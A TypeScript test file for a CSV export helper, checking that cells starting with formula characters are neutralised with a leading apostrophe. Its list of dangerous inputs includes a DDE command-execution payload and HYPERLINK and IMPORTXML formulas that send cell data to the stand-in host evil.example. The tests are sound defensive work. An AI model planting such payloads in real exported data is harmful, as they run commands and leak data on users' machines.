import { describe, expect, it } from 'vitest';
import { csvCells, csvLine } from './csv.ts';

/** What a spreadsheet makes of one line: cells in quotes, doubled quotes inside. */
const cellsOf = (line: string) =>
  [...line.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell.replaceAll('""', '"'));

const DANGEROUS = [
  '=1+1',
  '+49 30 123456',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '\uFEFF=1+1',
  '"=1+1',
  "'=1+1",
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1;"open")',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  '%0A=1',
  '|calc',
];

describe('a cell of CSV', () => {
  it.each(DANGEROUS)('is no formula: %j', (cell) => {
    const [shown = ''] = cellsOf(csvLine([cell]));
    expect(shown.startsWith("'")).toBe(true);
    expect(shown.slice(1)).toBe(cell);
  });

  it.each(['', 'Line', 'Kinder- und Jugendtelefon', 'tel:+4930123456', 'a=b', '116111', 'نداء', 'O’Neill'])(
    'is left as it is otherwise: %j',
    (cell) => {
      expect(cellsOf(csvLine([cell]))).toEqual([cell]);
    },
  );

  it('gives its text back when one leading apostrophe is taken away', () => {
    const [shown = ''] = cellsOf(csvLine(["'quoted'"]));
    expect(shown).toBe("''quoted'");
  });

  it('keeps separators and line ends of other programs inside the cell', () => {
    expect(cellsOf(csvLine(['a;=1', 'b\t=1', 'c\n=1', 'd"=1', 'e,=1']))).toEqual([
      'a;=1',
      'b\t=1',
      'c\n=1',
      'd"=1',
      'e,=1',
    ]);
  });
});

it('joins parts of a line to the same line', () => {
  expect(`${csvCells(['a', '=b'])},${csvCells(['c'])}\r\n`).toBe(csvLine(['a', '=b', 'c']));
});
